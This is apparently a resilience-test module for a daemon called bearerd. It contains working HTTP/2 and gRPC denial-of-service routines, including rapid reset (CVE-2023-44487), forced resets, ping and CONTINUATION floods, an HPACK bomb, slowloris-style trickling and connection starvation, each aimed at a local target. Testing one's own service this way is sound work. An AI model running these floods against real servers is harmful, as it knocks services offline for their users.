"""What somebody can do to bearerd who can connect to it and has no proof of who they are.

Each attack works for so many seconds, and says in words how much it sent and, as a number, how much of that was taken:
zero if it did not happen. All of them come from an address of their own, 127.0.0.2, where they can.
"""

import itertools
import re
import secrets
import shutil
import subprocess
import tempfile
import threading
import time

from frames import (
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GET_TOKEN, HEADERS, PING, PRIORITY, RESET, SETTINGS,
    WINDOW_UPDATE, begun_field, connect, field, frame, greeted, indexed, is_open, message, pour, request,
)

SOURCE = "127.0.0.2"


def repeat(target, seconds, block, drain=True):
    """Sends a block on one connection after the other. The number of bytes taken and of connections used."""
    until, taken, used = time.monotonic() + seconds, 0, 0
    while time.monotonic() < until:
        try:
            with greeted(target, SOURCE) as stream:
                used += 1
                taken += pour(stream, block, until, drain)
        except OSError:
            # The server hung up while the connection was begun.
            time.sleep(0.001)
    return taken, used


def streams(make, count=2000):
    """What is sent on each of many streams of a new connection."""
    return b"".join(make(2 * number + 1) for number in range(count))


def requests(target, seconds):
    """h2load: as many requests as it can, on 50 connections with 100 at a time each."""
    with tempfile.NamedTemporaryFile() as body:
        body.write(GET_TOKEN)
        body.flush()
        host, port = target
        done = subprocess.run(
            [shutil.which("h2load"), "-c", "50", "-m", "100", "-t", "1", "-D", str(seconds), "-d", body.name,
             "-H", "content-type: application/grpc", "-H", "te: trailers",
             f"http://{host}:{port}/bearerd.v1.TokenService/GetToken"],
            capture_output=True, text=True, check=False,
        )
    # Those that were answered, with whatever it was.
    answered = re.search(r"^requests: .* (\d+) done,", done.stdout, re.MULTILINE)
    number = int(answered.group(1)) if answered else 0
    return f"{number:,} requests", number


def rapid_resets(target, seconds):
    """Requests that are taken back at once (CVE-2023-44487)."""
    cancel = b"\0\0\0\x08"
    block = streams(lambda n: frame(HEADERS, END_HEADERS | END_STREAM, n, request()) + frame(RESET, 0, n, cancel))
    taken, used = repeat(target, seconds, block)
    return f"{taken >> 20:,} MiB of requests, {used:,} connections", taken


def made_resets(target, seconds):
    """Requests that the server has to reset itself (CVE-2025-8671)."""
    block = streams(lambda n: frame(HEADERS, END_HEADERS | END_STREAM, n, request()) + frame(DATA, 0, n, b"x"))
    taken, used = repeat(target, seconds, block)
    return f"{taken >> 20:,} MiB of requests, {used:,} connections", taken


def pings(target, seconds):
    """Pings whose answers are read."""
    taken, used = repeat(target, seconds, frame(PING, 0, 0, b"flooding") * 1000)
    return f"{taken >> 20:,} MiB of pings, {used:,} connections", taken


def unread(target, seconds):
    """Pings, answers to no ping, settings and priorities, on 20 connections at a time, of which nothing is read."""
    kinds = [
        frame(PING, 0, 0, b"flooding"), frame(PING, 1, 0, b"flooding"), frame(SETTINGS, 0, 0, b"\0\x04\0\0\xff\xff"),
        frame(PRIORITY, 0, 1, b"\0\0\0\0\x01"),
    ]
    until, taken, threads = time.monotonic() + seconds, [], []

    def flood(kind):
        while time.monotonic() < until:
            try:
                with greeted(target, SOURCE) as stream:
                    taken.append(pour(stream, kind * 1000, until, drain=False))
            except OSError:
                time.sleep(0.001)

    for kind in itertools.islice(itertools.cycle(kinds), 20):
        threads.append(threading.Thread(target=flood, args=(kind,)))
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return f"{sum(taken) >> 20:,} MiB of frames, {len(taken):,} connections", sum(taken)


def header_lists(target, seconds):
    """Header fields without end, and a table entry of 4 KB that is named thousands of times."""
    endless = frame(HEADERS, END_STREAM, 1, request()) + frame(CONTINUATION, 0, 1, field("x" * 100, "y" * 8000)) * 100
    large = indexed("bomb", "y" * 3900)
    bomb = frame(HEADERS, END_HEADERS | END_STREAM, 1, request() + large) + b"".join(
        frame(HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, request() + b"\xbe" * 12000) for n in range(1, 50))
    first, used = repeat(target, seconds / 2, endless)
    second, more = repeat(target, seconds / 2, bomb)
    return f"{(first + second) >> 20:,} MiB, {used + more:,} connections", min(first, second)


def idle(target, seconds, count=10_000):
    """Connections that begin and then say nothing."""
    return hold(target, seconds, count, greeted)


def silent(target, seconds, count=10_000):
    """Connections that say nothing at all."""
    return hold(target, seconds, count, connect)


def hold(target, seconds, count, begin):
    # A slow host takes its time for so many; how far it came is told.
    held, tried = opened(target, count, time.monotonic() + 5 * seconds, begin)
    time.sleep(2)
    return told(held, tried)


def opened(target, count, until, begin):
    """Begins so many connections, as far as the time goes. Those that were let in, and how many were tried."""
    held, tried = [], 0
    while tried < count and time.monotonic() < until:
        tried += 1
        try:
            held.append(begin(target, SOURCE))
        except OSError:
            # There is no room for more; how many were let in is told.
            pass
    return held, tried


def told(held, tried):
    """What came of these connections, which end here."""
    still = sum(is_open(stream) for stream in held)
    for stream in held:
        stream.close()
    return f"{tried:,} connections, {still:,} kept", len(held)


def slow_headers(target, seconds, count=2000):
    """Requests whose header fields never end, one byte of a long one at a time."""
    def begin(target, source):
        stream = greeted(target, source)
        stream.sendall(frame(HEADERS, END_STREAM, 1, request() + begun_field("x", 8000)))
        return stream
    return trickle(target, seconds, count, begin, frame(CONTINUATION, 0, 1, b"y"))


def slow_handshakes(target, seconds, count=2000):
    """TLS handshakes of which one byte comes at a time."""
    def begin(target, source):
        stream = connect(target, source)
        stream.sendall(b"\x16\x03\x01\x02\x00\x01")
        return stream
    return trickle(target, seconds, count, begin, b"\0")


def trickle(target, seconds, count, begin, more):
    until = time.monotonic() + seconds
    held, tried = opened(target, count, until, begin)
    while time.monotonic() < until:
        for stream in held:
            try:
                stream.send(more)
            except OSError:
                # It was cut off; how many were not is told.
                pass
        time.sleep(0.5)
    return told(held, tried)


def oversized(target, seconds):
    """Messages that are larger than allowed, and say so."""
    body = message(b"x" * 16_000, 1 << 30)
    block = streams(lambda n: frame(HEADERS, END_HEADERS, n, request()) + frame(DATA, 0, n, body), 500)
    taken, used = repeat(target, seconds, block)
    return f"{taken >> 20:,} MiB, {used:,} connections", taken


def begun(target, seconds, connections=20, each=1000):
    """Requests of which nothing but the header fields is sent."""
    until, held, taken = time.monotonic() + seconds, [], 0
    block = streams(lambda n: frame(HEADERS, END_HEADERS, n, request()), each)
    for _ in range(connections):
        try:
            stream = greeted(target, SOURCE)
            taken += pour_once(stream, block, until) * each // len(block)
            held.append(stream)
        except OSError:
            # Requests of a connection that broke are not counted.
            pass
    let_in = len(held)
    while time.monotonic() < until:
        held = [stream for stream in held if is_open(stream)]
        time.sleep(0.1)
    for stream in held:
        stream.close()
    return f"{taken:,} requests, {let_in} connections", taken


def pour_once(stream, block, until):
    """Sends a block once, as far as the time goes, and reads what is said meanwhile. The number of bytes taken."""
    stream.setblocking(False)
    view, at = memoryview(block), 0
    while at < len(view) and time.monotonic() < until:
        try:
            at += stream.send(view[at:])
        except BlockingIOError:
            time.sleep(0.001)
        if not is_open(stream):
            break
    return at


def unfinished(target, seconds, connections=4, each=250):
    """Messages of nearly the allowed size, of which all but the end is sent: 4 GB, if anybody keeps them."""
    until, sent, threads = time.monotonic() + seconds, [], []

    def flood():
        try:
            with greeted(target, SOURCE) as stream:
                sent.append(Sender(stream, each).send(until))
        except OSError:
            # Requests of a connection that was ended before all of them had begun are not counted.
            pass

    for _ in range(connections):
        threads.append(threading.Thread(target=flood))
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return f"{sum(sent) >> 20:,} MiB, {len(sent) * each:,} requests", sum(sent)


class Sender:
    """Sends messages on many streams of one connection, and as much at a time as the server has room for."""

    SIZE = (4 << 20) - 1024
    CHUNK = b"x" * 16_384

    def __init__(self, stream, count):
        self.stream, self.heard, self.sent = stream, b"", 0
        self.room = {0: 65_535} | {2 * n + 1: 65_535 for n in range(count)}
        self.left = {}
        self.initial = 65_535
        stream.settimeout(1)
        for number in list(self.room)[1:]:
            stream.sendall(frame(HEADERS, END_HEADERS, number, request()))
            self.left[number] = self.SIZE
            stream.sendall(self.data(number, message(b"", self.SIZE)))

    def data(self, number, payload):
        self.room[0] -= len(payload)
        self.room[number] -= len(payload)
        self.sent += len(payload)
        return frame(DATA, 0, number, payload)

    def send(self, until):
        """Goes on until the time comes or the connection ends. How many bytes were sent."""
        try:
            while time.monotonic() < until:
                frames = b"".join(self.turn(number) for number in list(self.left) if self.room[0] > 0)
                if frames:
                    self.stream.sendall(frames)
                else:
                    time.sleep(0.002)
                self.listen()
        except OSError:
            pass
        return self.sent

    def turn(self, number):
        frames = b""
        for _ in range(16):
            size = min(len(self.CHUNK), self.left[number], self.room[number], self.room[0])
            if size <= 0:
                break
            self.left[number] -= size
            frames += self.data(number, self.CHUNK[:size])
        return frames

    def listen(self):
        self.stream.setblocking(False)
        try:
            said = self.stream.recv(65_536)
            if not said:
                raise ConnectionResetError
            self.heard += said
        except BlockingIOError:
            pass
        self.stream.settimeout(1)
        while len(self.heard) >= 9:
            length = int.from_bytes(self.heard[:3], "big")
            if len(self.heard) < 9 + length:
                break
            kind, flags, number = self.heard[3], self.heard[4], int.from_bytes(self.heard[5:9], "big")
            self.understand(kind, flags, number, self.heard[9:9 + length])
            self.heard = self.heard[9 + length:]

    def understand(self, kind, flags, number, payload):
        if kind == WINDOW_UPDATE and number in self.room:
            self.room[number] += int.from_bytes(payload, "big")
        elif kind == SETTINGS and not flags & ACK:
            for at in range(0, len(payload), 6):
                if payload[at:at + 2] == b"\0\x04":
                    initial = int.from_bytes(payload[at + 2:at + 6], "big")
                    for stream in self.left:
                        self.room[stream] += initial - self.initial
                    self.initial = initial
            # Only then are they in force.
            self.stream.sendall(frame(SETTINGS, ACK, 0))
        elif kind == RESET or (kind == HEADERS and flags & END_STREAM):
            self.left.pop(number, None)


def admin(target, seconds, count=600):
    """Requests to the admin port, which asks nobody who they are: header fields and bodies without end, and silence (S5)."""
    header = b"GET /metrics HTTP/1.1\r\nhost: x\r\nx: " + b"y" * 390_000
    body = b"POST /livez HTTP/1.1\r\nhost: x\r\ncontent-length: 1000000000\r\n\r\n" + b"z" * 390_000
    until, held, tried, sent = time.monotonic() + seconds, [], 0, 0
    while time.monotonic() < until:
        new, more = opened(target, count, until, connect)
        held, tried = [*held[-count:], *new], tried + more
        for stream, text in zip(new, itertools.cycle((header, body, b""))):
            stream.setblocking(False)
            try:
                sent += stream.send(text)
            except OSError:
                # It was closed at once, or takes no more.
                pass
    for stream in held:
        stream.close()
    return f"{sent >> 20:,} MiB of requests, {tried:,} connections", sent


def bodies(target, seconds, count=120):
    """Calls with bodies of nearly 4 MiB to an API that does not answer, by a caller who may make them (S9)."""
    import honest

    host, port, token = target
    call = honest.messages.CallThroughRequest(credential="stalled", method="POST", path="/x", body=b"x" * ((4 << 20) - 1024))
    until, calls, refused = time.monotonic() + seconds, [], 0
    with honest.channel(f"{host}:{port}", None) as opened_channel:
        stub = honest.services.TokenServiceStub(opened_channel)
        while time.monotonic() < until:
            if len(calls) < count:
                calls.append(stub.CallThrough.future(call, timeout=60, metadata=[("authorization", f"Bearer {token}")]))
            over = [one for one in calls if one.done()]
            refused += len(over)
            calls = [one for one in calls if not one.done()]
            time.sleep(0.01)
        under_way = len(calls)
        for one in calls:
            one.cancel()
    return f"{refused + under_way:,} calls, {refused:,} refused", under_way


def starve(target, seconds, count=1100):
    """Connections that begin and then say nothing, from three addresses, where 1,024 files may be open (S10). More
    addresses could take all connections, as docs/security.md says."""
    held, tried = [], 0
    for number in range(count):
        tried += 1
        try:
            held.append(greeted(target, f"127.0.0.{2 + number % 3}"))
        except OSError:
            # There is no room for more; how many were let in is told.
            pass
    time.sleep(seconds)
    return told(held, tried)


def guesses(target, seconds):
    """h2load: requests with long tokens that are wrong, each of which is worth a line in the audit log (S7)."""
    with tempfile.NamedTemporaryFile() as body:
        body.write(GET_TOKEN)
        body.flush()
        host, port = target
        done = subprocess.run(
            [shutil.which("h2load"), "-c", "50", "-m", "100", "-t", "1", "-D", str(seconds), "-d", body.name,
             "-H", "content-type: application/grpc", "-H", "te: trailers",
             "-H", f"authorization: Bearer bearerd_{secrets.token_urlsafe(2000)}",
             f"http://{host}:{port}/bearerd.v1.TokenService/GetToken"],
            capture_output=True, text=True, check=False,
        )
    answered = re.search(r"^requests: .* (\d+) done,", done.stdout, re.MULTILINE)
    number = int(answered.group(1)) if answered else 0
    return f"{number:,} wrong guesses", number
